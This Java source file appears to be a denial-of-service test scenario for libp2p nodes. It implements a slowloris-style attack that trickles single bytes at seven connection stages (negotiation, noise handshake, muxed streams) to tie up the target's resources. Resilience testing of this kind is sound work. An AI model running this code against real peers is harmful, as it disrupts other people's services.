package libp2p.scenarios.flood;

import java.io.IOException;
import java.time.Duration;
import libp2p.core.muxer.MuxedConnection;
import libp2p.core.muxer.MuxedStream;
import libp2p.core.security.SecureConnection;
import libp2p.protocols.identify.Identify;
import libp2p.protocols.ping.Ping;

/** A byte now and then, at each of the seven stages of a connection, until the other end has had enough. */
final class Trickle {
    /** Shorter than every timeout of a single read. */
    private static final Duration PAUSE = Duration.ofSeconds(4);

    private static final byte[] PROPOSALS = Stranger.join(
            Stranger.HEADER, Stranger.message("/none/1"), Stranger.message("/none/2"), Stranger.message("/none/3"));

    private final Attacker attacker;

    Trickle(Attacker attacker) {
        this.attacker = attacker;
    }

    @FunctionalInterface
    private interface Sink {
        void write(byte[] one) throws IOException;
    }

    private void trickle(byte[] bytes, Sink sink) throws IOException {
        for (int i = 0; ; i++) {
            sink.write(new byte[] {bytes[i % bytes.length]});
            attacker.pause(PAUSE);
        }
    }

    void connect(int worker) throws IOException {
        try (Stranger stranger = Stranger.connect(attacker.target)) {
            switch (worker % 7) {
                case 0 -> stranger.read(); // silence from the first byte on, but for what the other end says
                case 1 -> trickle(PROPOSALS, stranger::write);
                case 2 -> {
                    stranger.write(Stranger.join(Stranger.HEADER, Stranger.message("/noise"), new byte[] {0, 32}));
                    trickle(new byte[1], stranger::write);
                }
                case 3 -> {
                    try (SecureConnection secure = stranger.secure()) {
                        trickle(PROPOSALS, one -> Stranger.send(secure, one));
                    }
                }
                case 4 -> onAStream(stranger, PROPOSALS, new byte[0]);
                case 5 ->
                    onAStream(
                            stranger,
                            new byte[1],
                            Stranger.HEADER,
                            Stranger.message(Identify.PUSH_PROTOCOL),
                            new byte[] {100, 0x0a});
                default -> onAStream(stranger, new byte[1], Stranger.HEADER, Stranger.message(Ping.PROTOCOL));
            }
        } finally {
            attacker.did();
        }
    }

    private void onAStream(Stranger stranger, byte[] trickled, byte[]... first) throws IOException {
        MuxedConnection muxed = stranger.muxed();
        try {
            MuxedStream stream = Stranger.open(muxed);
            if (first.length > 1) {
                Stranger.write(stream, first);
            }
            trickle(trickled, one -> Stranger.write(stream, one));
        } finally {
            muxed.close(0, "");
        }
    }
}
